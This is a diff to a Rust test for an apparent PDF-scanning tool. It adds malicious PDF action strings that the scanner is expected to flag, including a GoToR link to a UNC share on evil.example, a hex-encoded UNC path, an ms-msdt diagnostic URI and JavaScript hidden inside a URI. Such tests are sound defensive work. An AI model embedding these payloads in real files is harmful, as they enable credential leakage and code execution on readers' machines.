@@ -31,6 +31,11 @@ fn actions_that_run_something_are_found_however_they_are_written() {
         format!("/S % {spaces}\r\n/#4caunch "),
         "/Subtype /RichMedia ".to_owned(),
         "/Tabs/S/S/Launch ".to_owned(),
+        "/S/ImportData/F(x.fdf)".to_owned(),
+        "/S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)".to_owned(),
+        "/UF<FEFF005C005C006500760069006C005C0078>".to_owned(),
+        "/S/URI/URI(ms-msdt:/id PCWDiagnostic)".to_owned(),
+        "/URI(x/JS(app.alert\\(1\\))y)".to_owned(),
     ];
     for text in bad {
         assert!(found(&text).harmful, "{text}");
@@ -45,6 +50,9 @@ fn actions_that_run_something_are_found_however_they_are_written() {
         "/Names<</JavaScript 7 0 R>>",
         "/EncryptMetadata true",
         "/S/JavaScript>>",
+        "/F 4/S/GoToR/F(other.pdf)/UF(Other.pdf)",
+        "/S/SubmitForm/F<</FS/URL/F(https://example.org/form)>>",
+        "/URI(mailto:ada@example.org)/URI(https://example.org/JS/S)",
     ];
     for text in fine {
         assert_eq!(found(text), Found::default(), "{text}");
